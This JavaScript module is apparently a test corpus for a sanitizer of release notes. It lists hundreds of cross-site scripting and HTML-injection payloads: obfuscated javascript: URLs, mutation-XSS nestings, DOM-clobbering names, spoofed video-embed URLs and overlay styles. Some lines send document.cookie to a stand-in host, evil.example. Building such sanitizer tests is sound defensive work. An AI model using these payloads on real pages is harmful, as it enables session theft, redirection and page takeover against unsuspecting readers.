// Attacks on readers of releases: what could run, lead away, ask for something, cover the page or break out of its place.
// Each is written so that it works somewhere when nobody cleans it.

/** What a script of ours does, so that the traps see it. */
const RUN = 'alert(1)';

/** `javascript:` in the spellings that parsers of addresses have been known to forgive, and its relatives. */
export const ADDRESSES = [
  'javascript:alert(1)', 'JavaScript:alert(1)', 'JAVASCRIPT:alert(1)', 'jAvAsCrIpT:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)',
  '\njavascript:alert(1)', '\r\njavascript:alert(1)', '\x01javascript:alert(1)', '\x1fjavascript:alert(1)', '\x00javascript:alert(1)',
  'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', 'javascript\t:alert(1)', 'javascript\n:alert(1)', 'j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)',
  'java\0script:alert(1)', 'java&#9;script:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)', 'javascript&#x0003A;alert(1)', '&#106;avascript:alert(1)', '&#106avascript:alert(1)', '&#0000106&#0000097vascript:alert(1)', '&#x6A&#x61vascript:alert(1)',
  'javascript:%61lert(1)', 'javascript://www.example.com/%0aalert(1)', 'javascript://%E2%80%A8alert(1)', 'javascript:/*--></title></style>*/alert(1)', 'javascript:void(alert(1))',
  'javascript:"<img src=x onerror=alert(1)>"', 'javascript&amp;colon;alert(1)', 'javascript&amp;#58;alert(1)', '\u2028javascript:alert(1)', '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)',
  '\u202ejavascript:alert(1)', '\u3000javascript:alert(1)', 'javascript\uff1aalert(1)', '\uff4aavascript:alert(1)', 'ja\u017fcript:alert(1)', 'javascrıpt:alert(1)', 'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)', 'jar:javascript:alert(1)', 'vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:,alert(1)', 'data:text/javascript,alert(1)', 'DATA:text/html,<script>alert(1)</script>', 'da\tta:text/html,<script>alert(1)</script>', 'blob:http://page.test/0c3a', 'filesystem:http://page.test/temporary/x.html',
  'file:///etc/passwd', 'chrome://version', 'about:blank', 'about:srcdoc', 'intent://scan/#Intent;scheme=zxing;end', 'ms-settings:privacy', 'itms-services://?action=download-manifest', 'ws://evil.example/', 'wss://evil.example/',
  'cid:part@evil.example', 'urn:x-evil', 'sms:+15550100?body=x', 'skype:evil?call', 'mailto:a@b.example?bcc=everyone@evil.example', 'mailto:a@b.example%0d%0abcc:c@evil.example', 'tel:*21*5550100#',
  'tel:+1-555-0100;phone-context=evil.example', '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example/x', '\\/evil.example/x', '///evil.example/x', 'http:evil.example', 'https:///evil.example/x', 'http:\\\\evil.example/x',
  'http://user:secret@evil.example/', 'http://www.example.com@evil.example/', 'http://www.example.com%40evil.example/', 'http://evil.example\\@www.example.com/', 'http://[::1]/', 'http://0x7f.1/', 'http://2130706433/',
  'http://127.0.0.1:1/x', 'http://169.254.169.254/latest/', 'http://evil.example:99999/', 'http://evil.example:080/', 'http://ev\til.example/', 'http://ev\u00adil.example/', 'http://exa\u0301mple.example/', 'http://xn--e1awd7f.example/',
  'http://xn--a/', 'http://evil。example/', 'http://evil%2eexample/', 'http://%65vil.example/', 'http:/evil.example', 'http://', 'https://?', 'http://#', 'ftp://evil.example/x', 'gopher://evil.example/', '?x=1', '#top', '.', '', ' ',
  'http://evil.example/"onmouseover="alert(1)', "http://evil.example/'onmouseover='alert(1)", 'http://evil.example/><script>alert(1)</script>', 'http://evil.example/`onmouseover=alert(1)', 'http://evil.example/&quot;onmouseover=&quot;alert(1)',
];

const quoted = (address) => address.replace(/"/g, '&quot;');

/** Elements and attributes that browsers take addresses from. */
export const CARRIERS = [
  (it) => `<a href="${it}">Read more</a>`,
  (it) => `<a href='${it.replace(/'/g, '&#39;')}'>Read more</a>`,
  (it) => `<a href=${it.replace(/[\s>]/g, '')}>Read more</a>`,
  (it) => `<a href="#" xlink:href="${it}" ping="${it}" target="_top" rel="opener" download="x.exe" attributionsrc="${it}">Read more</a>`,
  (it) => `<img src="${it}" alt="A picture" width="600" height="400">`,
  (it) => `<img srcset="${it} 1x, ${it} 2x" sizes="100vw" src="${it}" lowsrc="${it}" dynsrc="${it}" longdesc="${it}" usemap="#m">`,
  (it) => `<picture><source srcset="${it}"><img src="${it}" alt="A picture"></picture>`,
  (it) => `<video src="${it}" poster="${it}" autoplay controls><source src="${it}" type="video/mp4"><track default src="${it}"></video>`,
  (it) => `<audio src="${it}" autoplay onplay="${RUN}"></audio>`,
  (it) => `<iframe src="${it}"></iframe>`,
  (it) => `<object data="${it}" classid="${it}" codebase="${it}"><param name="src" value="${it}"><embed src="${it}"></object>`,
  (it) => `<form action="${it}" method="post"><button formaction="${it}">Go</button><input type="image" src="${it}" formaction="${it}"></form>`,
  (it) => `<meta http-equiv="refresh" content="0;url=${it}"><meta http-equiv="set-cookie" content="a=b">`,
  (it) => `<base href="${it}" target="_parent"><a href="x">Read more</a><img src="x" alt="">`,
  (it) => `<link rel="stylesheet" href="${it}"><link rel="prefetch" href="${it}"><link rel="import" href="${it}">`,
  (it) => `<svg><a xlink:href="${it}" href="${it}"><text y="20">Read more</text></a><use href="${it}#x"/><image href="${it}"/><script href="${it}"/></svg>`,
  (it) => `<svg><animate xlink:href="#x" attributeName="href" values="${it}"/><a id="x"><text y="20">Read</text></a></svg>`,
  (it) => `<svg><set attributeName="href" to="${it}"/><foreignObject><iframe src="${it}"></iframe></foreignObject></svg>`,
  (it) => `<math href="${it}"><mtext>Read more</mtext></math><math><maction actiontype="statusline" xlink:href="${it}">x</maction></math>`,
  (it) => `<blockquote cite="${it}"><q cite="${it}">Quoted</q></blockquote><del cite="${it}">x</del>`,
  (it) => `<table background="${it}"><tr background="${it}"><td background="${it}">1</td></tr></table><body background="${it}">`,
  (it) => `<p style="background:url('${it}');position:fixed;inset:0;z-index:9">x</p><style>@import "${it}";*{background:url(${it})}</style>`,
  (it) => `<map name="m"><area href="${it}" shape="default"></map><img usemap="#m" src="https://img.example/a.png">`,
  (it) => `<script src="${it}"></script><script type="module" src="${it}"></script><script type="importmap">{"imports":{"a":"${it}"}}</script>`,
  (it) => `<frameset><frame src="${it}"></frameset><applet code="${it}" archive="${it}"></applet><bgsound src="${it}">`,
  (it) => `<html manifest="${it}" itemid="${it}"><head profile="${it}"><isindex action="${it}"><menuitem icon="${it}">`,
  (it) => `<portal src="${it}"></portal><fencedframe src="${it}"></fencedframe><webview src="${it}"></webview>`,
];

/** Frames that claim to be of a player that may be framed. */
const FRAMES = [
  'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'https://player.vimeo.com/video/76979871', '//www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'http://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/embed/dQw4w9WgXcQ', 'https://youtu.be/dQw4w9WgXcQ', 'https://m.youtube.com/embed/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com.evil.example/embed/x', 'https://evil.example/www.youtube-nocookie.com/embed/x',
  'https://www.youtube-nocookie.com@evil.example/embed/x', 'https://www.youtube-nocookie.com%40evil.example/embed/x', 'https://www.youtube-nocookie.com%2eevil.example/embed/x', 'https://www.youtube-nocookie.com\\.evil.example/embed/x', 'https://www.youtube-nocookie.com\\@evil.example/embed/x',
  'https://evil.example\\@www.youtube-nocookie.com/embed/x', 'https://evil.example#@www.youtube-nocookie.com/embed/x', 'https://evil.example?@www.youtube-nocookie.com/embed/x', 'https://evil.example/\\www.youtube-nocookie.com/embed/x', 'https://user:x@www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
  'https://www.youtube-nocookie.com:8443/embed/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com:443/embed/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com./embed/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com../embed/x', 'https://wwwyoutube-nocookie.com/embed/x', 'https://evilyoutube-nocookie.com/embed/x',
  'https://www.youtube-nocookie.com/embed/../redirect?q=http://evil.example', 'https://www.youtube-nocookie.com/embed/%2e%2e/redirect?q=http://evil.example', 'https://www.youtube-nocookie.com/embed/..%2fredirect', 'https://www.youtube-nocookie.com/redirect?q=http://evil.example/embed/x',
  'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ/../../signin', 'https://www.youtube-nocookie.com/embed//evil.example', 'https://www.youtube-nocookie.com/embed/"onload="alert(1)', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1&origin=javascript:alert(1)',
  'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ#javascript:alert(1)', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?enablejsapi=1&widget_referrer=http://evil.example', 'https://WWW.YOUTUBE-NOCOOKIE.COM/embed/dQw4w9WgXcQ', 'https://www.y\u043eutube-nocookie.com/embed/x',
  'https://www.xn--yutube-nocookie-jzj.com/embed/x', 'https://www.youtube-nocookie\u3002com/embed/dQw4w9WgXcQ', 'https://www\u00ad.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'https://www.you\ttube-nocookie.com/embed/dQw4w9WgXcQ', 'ht\ntps://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
  'https:www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'https:/\\www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'javascript://www.youtube-nocookie.com/embed/%0aalert(1)', 'data://www.youtube-nocookie.com/embed/,<script>alert(1)</script>', 'ftp://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
  'https://player.vimeo.com.evil.example/video/1', 'https://player.vimeo.com/video/1@evil.example', 'https://player.vimeo.com/external/1.mp4?s=x', 'https://player.vimeo.com/video/../log_in?redirect=//evil.example', 'https://vimeo.com/76979871', 'https://player.vimeo.com/video/javascript:alert(1)',
  'https://player.vimeo.com/video/76979871?h=<script>alert(1)</script>', 'https://player.vimeo.com:80/video/1', 'https://xplayer.vimeo.com/video/1', 'https://player.vimeo.com/videos/76979871', 'https://player.vimeo.com/video/', '', 'about:blank', '#', 'x', '.',
];

/** Documents that one parser reads in another way than the next, or than itself the second time. */
const NESTS = [
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">', '<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<svg><desc><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>', '<svg><title><style><a title="</style><img src onerror=alert(1)>">', '<svg><foreignObject><p><noscript><a title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noscript><style></noscript><img src=x onerror=alert(1)></style>', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode="open"><script>alert(1)</script><slot></slot></template><p>x</p>', '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=alert(1)></template>', '<select><template><img src=x onerror=alert(1)></template></select>', '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<select><iframe></select><img src=x onerror=alert(1)>', '<select><svg><style></select><img src=x onerror=alert(1)>', '<table><tr><td><svg><desc><table><td></svg><img src=x onerror=alert(1)>', '<table><img src=x onerror=alert(1)><script>alert(1)</script><tr><td>1</td></tr></table>', '<table><a href="javascript:alert(1)">x<tr><td>1</table>',
  '<table><caption><svg><style></caption><img src=x onerror=alert(1)></table>', '<table><colgroup><template><col></template><img src=x onerror=alert(1)>', '<table><tbody><tr><select><td><img src=x onerror=alert(1)>', '<table><tfoot><tr><td>1</td></tr></tfoot><tbody></tbody><p>out</table></div></main><h1>gone', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><p><style><a title="</style><img src=x onerror=alert(1)>">', '<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">', '<math><semantics><annotation-xml><svg><style><a id="</style><img src onerror=alert(1)>">', '<math><mo><malignmark><xmp><a title="</xmp><img src=x onerror=alert(1)>">',
  '<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)>', '<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<svg><p><![CDATA[</p><img src=x onerror=alert(1)>]]>', '<svg><script>alert&#40;1)</script>', '<svg><script/href="data:,alert(1)"/>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin="alert(1)" attributeName="x"/></svg>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x"/></svg>',
  '<!--><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>-->', '<!--<!--><img src=x onerror=alert(1)>', '<!-- a="--><img src=x onerror=alert(1)>"-->', '<!-x><img src=x onerror=alert(1)>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<?php echo "><img src=x onerror=alert(1)>" ?>',
  '<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;', '<!ENTITY % a SYSTEM "http://evil.example/">', '</ <img src=x onerror=alert(1)>', '</p title="><img src=x onerror=alert(1)>">', '<%<!--%><img src=x onerror=alert(1)>', '<comment><img src="</comment><img src=x onerror=alert(1)//">', '<style><!--</style><img src=x onerror=alert(1)>-->',
  '<style></styl</style><img src=x onerror=alert(1)>', '<style>*{color:red}</style\n><img src=x onerror=alert(1)>', '<script><!--<script></script><img src=x onerror=alert(1)>--></script>', '<script>/*</script><img src=x onerror=alert(1)>*/', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/x>alert(1)</script/x>', '<script\x0c>alert(1)</script\x0c>',
  '<SCRIPT>alert(1)</SCRIPT >', '<script type="text/plain"></script><img src=x onerror=alert(1)>', '<<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)', '<img/src=x/onerror=alert(1)>', '<img src="x"onerror="alert(1)">', '<img src=x onerror\n=\nalert(1)>', '<img \x00src=x \x00onerror=alert(1)>', '<img src=x on\x00error=alert(1)>', '<im\x00g src=x onerror=alert(1)>',
  '<img src=x o\u0130nerror=alert(1)>', '<img src=`x`onerror=alert(1)>', "<img src='x'onerror='alert(1)'>", '<img """><script>alert(1)</script>">', '<img alt="\'><script>alert(1)</script>">', '<img alt=\'"><script>alert(1)</script>\'>', '<img alt="`><img src=x onerror=alert(1)>">', '<img alt="<!--" src=x onerror=alert(1)>-->', '<a title="&quot;><script>alert(1)</script>">x</a>',
  '<p title="&lt;/p>&lt;img src=x onerror=alert(1)>">x</p>', '<p>&lt;img src=x onerror=alert(1)&gt;</p>', '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>', '<pre>\n\n<img src=x onerror=alert(1)></pre>', '<pre><!-- </pre><img src=x onerror=alert(1)> --></pre>', '<listing>&lt;img src=x onerror=alert(1)></listing>', '&ltimg src=x onerror=alert(1)&gt', '&#60img src=x onerror=alert(1)&#62',
  '\uff1cimg src=x onerror=alert(1)\uff1e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '\u2028<img src=x onerror=alert(1)>\u2029', '<p>\u202e<img src=x onerror=alert(1)>\u202c</p>', '<a href="x" \u2028onclick="alert(1)">x</a>', '<a href="x"\x0bonclick=alert(1)>x</a>', '<a/href="javascript:alert(1)">x', '<a\nhref\n=\n"javascript:alert(1)"\n>x</a\n>',
  '<a href=javascript:alert(1) href=https://www.example.com>x</a>', '<a href="https://www.example.com" href="javascript:alert(1)">x</a>', '<a HREF="javascript:alert(1)">x</a>', '<a \u017fhref="javascript:alert(1)">x</a>', '<a><a href="javascript:alert(1)"><a>x', '<a href="https://a.example/"><p><a href="javascript:alert(1)">x</p></a>', '<button><a href="x"><button onclick=alert(1)>x',
  '</div></main></body></html><script>alert(1)</script>', '</div><p id="after">Other words</p>', '</p></p></div></div></main><footer id="end">Mine</footer>', '<div></div></div><h1>Out</h1>', '</body><body onload=alert(1)>', '</html><html onclick=alert(1)>', '<body onpageshow=alert(1) style="display:none">', '<head><title>Mine</title></head>', '<html class="x" onfocus=alert(1)>', '<frameset onload=alert(1)>',
  '<b><i><u><a href="https://a.example/"><strong><em>never closed', '<h1><h2><h3>never closed', '<ul><li><ul><li><ol><li>never closed', '<li>item</ul></ol></div>', '<dd>term</dl></div>', '<td>cell</td></tr></table></div>', '<tr><td>x', '<option><img src=x onerror=alert(1)>', '<rt><rp><rb>x</ruby></div>', '<ruby><rt></div><p>x', '<nobr><nobr><nobr>x', '<font color="red"><font size="9"><p>x',
  '<b>'.repeat(600) + 'x', '<div>'.repeat(127) + '<p>x', '<div>'.repeat(128) + '<img src=x onerror=alert(1)>', '<div>'.repeat(129) + '<img src=x onerror=alert(1)>', '<blockquote>'.repeat(511) + '<script>alert(1)</script>', '<blockquote>'.repeat(513) + '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
  `${'<form><div>'.repeat(100)}<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`, '<a>'.repeat(300) + '<b>'.repeat(300) + '</a>'.repeat(300) + 'x', '<table>'.repeat(130) + '<tr><td><img src=x onerror=alert(1)>', '<svg>'.repeat(200) + '<p><style><a title="</style><img src=x onerror=alert(1)>">', '</p>'.repeat(2000) + 'x', '<p '.repeat(500) + 'onclick=alert(1)>x',
];

/** Names that shadow those of the page, acts without a script, ways over the page. */
const ACTS = [
  ...['body', 'head', 'cookie', 'forms', 'getElementById', 'createElement', 'documentElement', 'location', 'domain', 'defaultView', 'currentScript', 'querySelector', '__proto__', 'constructor', 'hasOwnProperty', 'prototype', 'toString', 'box', 'after', 'end', 'pr-title', 'top', 'self', 'parent', 'name', 'opener', 'frames', 'length', 'alert']
    .flatMap((it) => [`<img name="${it}" id="${it}" src="https://img.example/${encodeURIComponent(it)}.png">`, `<form id="${it}" name="${it}"><input name="${it}"><a id="${it}" name="${it}" href="cid:x">x</a></form>`, `<iframe name="${it}" srcdoc="<script>parent.alert(1)</script>"></iframe>`]),
  '<form id=x tabindex=0 onfocus=alert(1)><input id=attributes name=attributes>Click', '<form><input name=parentNode><input name=nodeName><img src=x onerror=alert(1)>', '<form><input name="removeChild"><input name="attributes"></form>', '<div is="x-y" onclick=alert(1)>x</div>', '<x-y onclick=alert(1)>x</x-y>', '<button is="fancy-button" commandfor="p" command="show-popover">x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<button popovertarget=p>x</button><p popover=manual id=p ontoggle=alert(1)>Over everything</p>', '<dialog open onclose=alert(1) style="position:fixed;inset:0">x</dialog>', '<dialog open><form method="dialog" onsubmit=alert(1)><button autofocus>x</button></form></dialog>', '<details open ontoggle=alert(1)><summary accesskey=x onclick=alert(1)>x</summary></details>', '<input autofocus onfocus=alert(1)>', '<p contenteditable autofocus onfocus=alert(1) onblur=alert(1)>x</p>',
  '<p tabindex=1 accesskey=a onfocus=alert(1) draggable=true ondragstart=alert(1) contextmenu=m hidden inert>x</p>', '<marquee onstart=alert(1) width=9999 height=9999>x</marquee>', '<video controls autoplay oncanplay=alert(1) onerror=alert(1)><source src=x onerror=alert(1)></video>', '<audio src=x onerror=alert(1) controls>', '<img src="https://img.example/a.png" onload=alert(1) width=600 height=400>', '<keygen autofocus onfocus=alert(1)>',
  '<isindex type=image src=x onerror=alert(1)>', '<input type=hidden oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">', '<p onscrollend=alert(1) style="overflow:auto;height:1px"><br><br><br>x</p>', '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=alert(1) onanimationend=alert(1)>x</p>', '<p style="transition:color 1s" ontransitionend=alert(1)>x</p>', '<object onerror=alert(1) data=x type=text/html></object>',
  '<embed src="data:text/html,<script>alert(1)</script>" type="text/html">', '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>', '<iframe onload=alert(1)></iframe>', '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="alert(1)" name="top" allow="camera *; microphone *" sandbox="" csp="x" style="position:fixed;inset:0" width="9999" height="9999"></iframe>', '<iframe src="https://player.vimeo.com/video/76979871" src="javascript:alert(1)"></iframe>', '<a href="https://a.example/" target="_blank" rel="opener" referrerpolicy="unsafe-url">x</a>', '<a href="https://a.example/" target="_top">x</a>',
  '<a href="https://a.example/" ping="https://evil.example/ping" download>x</a>', '<a href="https://a.example/" onclick="alert(1)" onauxclick="alert(1)" oncontextmenu="alert(1)">x</a>', '<a href="https://a.example/" style="position:fixed;inset:0;z-index:2147483647">x</a>', '<p class="pr-foot pr-title" style="display:block;position:absolute;top:0">x</p>', '<p slot="x" part="y" exportparts="z" itemprop="url" nonce="abc" role="button" aria-owns="after">x</p>',
  '<p align="center" bgcolor="#000" background="https://evil.example/x">x</p>', '<img src="https://img.example/a.png" style="position:fixed" class="x" crossorigin="use-credentials" fetchpriority="high" importance="high" elementtiming="x" sharedstoragewritable>', '<script>alert(1)</script>', '<script>alert(1)', '<script type=module>alert(1)</script>', '<script>top.location="https://evil.example/"</script>', '<script>open("https://evil.example/")</script>',
  '<script>document.body.innerHTML=""</script>', '<script>fetch("https://evil.example/"+document.cookie)</script>', '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>', '<script>setTimeout("alert(1)")</script>', '<script>Promise.resolve().then(alert)</script>', '<img src=x onerror="new Image().src=\'https://evil.example/?\'+document.cookie">', '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>', '<img src=x onerror="window[\'al\'+\'ert\'](1)">', '<img src=x onerror=alert`1`>', '<img src=x onerror=top[8680439..toString(30)](1)>', '<math><mi onclick=alert(1) tabindex=0 onfocus=alert(1)>x</mi></math>', '<link rel=stylesheet href="data:text/css,*{display:none}">', '<style>#after{display:none}</style>', '<style>@import "https://evil.example/x.css"</style>',
  '<style>*{position:fixed!important}</style>', '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}p{font-family:x}</style><p>x</p>', '<img src="https://evil.example/1.gif" width=1 height=1>', '<img src="https://www.google-analytics.com/collect?v=1" alt="">', '<img src="//pixel.wp.com/g.gif?x=1">', '<input type=image src="https://evil.example/x.png">', '<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="https://evil.example">',
];

/** All of them, each with a name that does not change when others join at the end. */
export function attacks() {
  const named = (group, them) => them.map((html, at) => ({ id: `${group}.${at}`, html }));
  return [
    ...named('address', ADDRESSES.map((it) => CARRIERS[0](quoted(it)))),
    ...named('image', ADDRESSES.map((it) => CARRIERS[4](quoted(it)))),
    ...named('carrier', CARRIERS.flatMap((carrier) => ['javascript:alert(1)', 'https://evil.example/x', 'data:text/html,<script>alert(1)</script>'].map((it) => carrier(quoted(it))))),
    ...named('frame', FRAMES.map((it) => `<iframe src="${quoted(it)}" width="560" height="315" allowfullscreen></iframe><p>A film</p>`)),
    ...named('nest', NESTS),
    ...named('act', ACTS),
  ];
}
